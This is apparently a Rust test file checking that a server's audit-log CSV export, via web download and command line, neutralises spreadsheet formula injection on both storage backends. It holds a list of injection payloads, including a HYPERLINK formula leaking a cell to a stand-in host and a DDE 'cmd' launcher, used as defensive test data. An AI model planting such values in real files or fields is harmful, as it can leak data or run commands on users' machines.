//! The audit log as CSV, through the desk's download and the command line's `audit`, on both
//! backends: a value from a phone or a file that a spreadsheet would run as a formula is
//! written as text, and every value comes back exactly by the README's rule.

#[macro_use]
mod common;
#[path = "support/csv_reader.rs"]
mod csv_reader;
#[path = "support/oversight.rs"]
mod oversight_support;

use common::*;
use csv_reader::{read, recover, runs};
use oversight_support::*;

/// Record ids as a hostile phone or file might send them: one for each way a cell can begin
/// that a spreadsheet runs, and two that begin with the mark itself.
const HOSTILE: [&str; 10] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{FF1D}1+1",
    "'=1+1",
    "'plain",
];

/// The audit lines about them (PC-DEMO-01 of the demo unit; the device id hostile too).
async fn hostile_lines(srv: &Served) {
    for (i, id) in HOSTILE.iter().enumerate() {
        srv.db
            .storage
            .audit(
                "PC-DEMO-01",
                Some("@phone"),
                "created",
                "breach_report",
                id,
                Some("-N-0001"),
                at(2) + i64::try_from(i).unwrap(),
            )
            .await
            .unwrap();
    }
}

/// No cell of `text` runs, and its record ids, devices and nominals come back as they were.
fn check(text: &str) {
    let rows = read(text);
    assert_eq!(rows[0].join(","), scpo_server::csv::AUDIT_HEADER);
    for row in &rows {
        assert_eq!(row.len(), 8, "{row:?}");
        for cell in row {
            assert!(!runs(cell), "a spreadsheet runs {cell:?}");
        }
    }
    let ours: Vec<&Vec<String>> = rows.iter().filter(|r| recover(&r[3]) == "@phone").collect();
    assert_eq!(ours.len(), HOSTILE.len());
    let ids: Vec<&str> = ours.iter().map(|r| recover(&r[6])).collect();
    for id in HOSTILE {
        assert!(ids.contains(&id), "{id:?} not given back in {ids:?}");
    }
    for r in ours {
        assert_eq!(
            (r[5].as_str(), recover(&r[7])),
            ("breach_report", "-N-0001")
        );
    }
}

async fn the_desk_s_download_writes_formulas_as_text(b: Backend) {
    let srv = serve(b).await;
    hostile_lines(&srv).await;
    let r = srv.get("/supervise/audit.csv", Some("ds")).await;
    assert_eq!(r.status(), 200);
    check(&r.text().await.unwrap());
}

async fn the_command_line_s_audit_writes_formulas_as_text(b: Backend) {
    let srv = serve(b).await;
    hostile_lines(&srv).await;
    let s = srv.db.storage.as_ref();
    let text = scpo_server::csv::audit_since(s, today(), at(5))
        .await
        .unwrap();
    check(&text);
    // Printing it is logged as a disclosure.
    let last = s.audit_since(0).await.unwrap().pop().unwrap();
    assert_eq!(
        (
            last.actor.as_str(),
            last.action.as_str(),
            last.record_id.as_str()
        ),
        ("cli", "disclosed", "2026-11-24")
    );
}

on_both_backends!(
    the_desk_s_download_writes_formulas_as_text,
    the_command_line_s_audit_writes_formulas_as_text,
);
